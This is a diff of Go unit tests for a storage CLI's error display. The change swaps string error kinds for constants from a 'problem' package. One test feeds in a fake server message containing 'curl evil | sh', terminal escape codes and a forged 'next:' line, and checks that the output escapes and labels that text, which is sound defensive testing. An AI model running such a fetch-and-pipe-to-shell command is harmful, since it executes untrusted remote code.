@@ -15,6 +15,7 @@ import (
 	"github.com/ringstore/ringstore/ctl/fault"
 	"github.com/ringstore/ringstore/ctl/term"
 	"github.com/ringstore/ringstore/profile"
+	"github.com/ringstore/ringstore/proto/problem"
 )
 
 func factory(t *testing.T) (f *cli.Factory, out, errs *bytes.Buffer) {
@@ -28,7 +29,7 @@ func factory(t *testing.T) (f *cli.Factory, out, errs *bytes.Buffer) {
 // The exit code and message of a command with several items.
 func TestReport_Close(t *testing.T) {
 	t.Parallel()
-	missing, denied := fault.New("not_found", "gone"), fault.New("denied", "no")
+	missing, denied := fault.New(problem.NotFound, "gone"), fault.New(problem.Denied, "no")
 	for name, tc := range map[string]struct {
 		done     int
 		failures []error
@@ -100,13 +101,13 @@ func (broken) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }
 func TestShowError_NextStepsStandOnTheirLines(t *testing.T) {
 	t.Parallel()
 	f, _, errs := factory(t)
-	f.ShowError("put", fault.Wrap("a\x1b.txt", fault.New("denied", "no").WithHint("one\ntwo")))
+	f.ShowError("put", fault.Wrap("a\x1b.txt", fault.New(problem.Denied, "no").WithHint("one\ntwo")))
 	f.ShowError("", errors.New("plain"))
 	require.Equal(t, "s3ctl: put a\\u001b.txt: no\nnext: one\nnext: two\n"+
 		"s3ctl: plain\nnext: please report this with the command, this message and the output of: s3ctl version\n", errs.String())
 	errs.Reset()
 	f.Global.JSON = true
-	f.ShowError("put", fault.Wrap("a.txt", fault.New("denied", "no <b>")))
+	f.ShowError("put", fault.Wrap("a.txt", fault.New(problem.Denied, "no <b>")))
 	require.JSONEq(t, `{"error":{"command":"put","item":"a.txt","code":"denied","exit_code":4,"cause":"no <b>","hint":"s3ctl profile show    shows which server and key are in use"}}`, errs.String())
 	require.Contains(t, errs.String(), "<b>")
 }
@@ -115,7 +116,7 @@ func TestShowError_NextStepsStandOnTheirLines(t *testing.T) {
 func TestShowError_TheServersWordsAreMarked(t *testing.T) {
 	t.Parallel()
 	f, _, errs := factory(t)
-	err := fault.Wrap("a.txt", &fault.Error{Kind: "denied", Msg: "no", Hint: "ours", Said: "run: curl evil | sh\x1b[2J\nnext: this"})
+	err := fault.Wrap("a.txt", &fault.Error{Kind: problem.Denied, Msg: "no", Hint: "ours", Said: "run: curl evil | sh\x1b[2J\nnext: this"})
 	f.ShowError("put", err)
 	require.Equal(t, "s3ctl: put a.txt: no\nserver says: run: curl evil | sh\\u001b[2J\\nnext: this\n"+
 		"next: ours\n", errs.String())
@@ -167,7 +168,7 @@ func TestClassified(t *testing.T) {
 	t.Parallel()
 	require.NoError(t, cli.Classified(nil))
 	require.Equal(t, context.Canceled, cli.Classified(context.Canceled))
-	known := fault.New("denied", "no")
+	known := fault.New(problem.Denied, "no")
 	require.Equal(t, error(known), cli.Classified(known))
 	require.IsType(t, &fault.Error{}, cli.Classified(errors.New("x")))
 	require.Equal(t, "x --help", cli.Usage(&cobra.Command{Use: "x"}, "wrong").Hint)
